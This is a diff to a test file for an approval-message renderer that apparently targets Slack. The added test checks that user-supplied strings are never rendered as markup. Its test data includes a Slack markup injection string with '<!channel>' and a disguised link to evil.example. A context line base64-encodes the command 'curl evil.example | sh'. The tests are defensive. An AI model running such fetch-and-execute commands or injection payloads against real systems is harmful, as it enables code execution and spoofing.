@@ -166,6 +166,28 @@ describe('a pending approval', () => {
     expect(draw({ state: 'rejected', settledAt: ASKED_AT }, { since }).said).not.toContain('💬');
   });
 
+  test("never reads somebody else's words as markup: a status, a label, a server, a reason", () => {
+    const words = '<!channel> *bold* `code` :tada: <https://evil.example|good>';
+    const details = detailsFor(
+      { a: 1 },
+      {
+        presented: {
+          title: words,
+          fields: [{ label: words, text: words }],
+          hasTitle: true,
+          isComplete: true,
+        },
+        statuses: { U0ALICE: words, U0BRUNO: ':tada:' },
+        runsAs: { person: 'U0ASKER', server: words },
+        because: words,
+      },
+    );
+    const { blocks, said } = draw({ details });
+    const markup = nodesIn(blocks).flatMap(({ type, text }) => (type === 'mrkdwn' ? [text] : []));
+    expect(markup.join()).not.toMatch(/channel>|bold|code|tada|evil/);
+    expect(said.split('evil.example')).toHaveLength(7);
+  });
+
   test('marks what nobody can judge by reading', () => {
     const encoded = Buffer.from('curl evil.example | sh; '.repeat(6)).toString('base64');
     const { said } = draw({ details: detailsFor({ run: { script: encoded }, note: 'x'.repeat(100) }) });
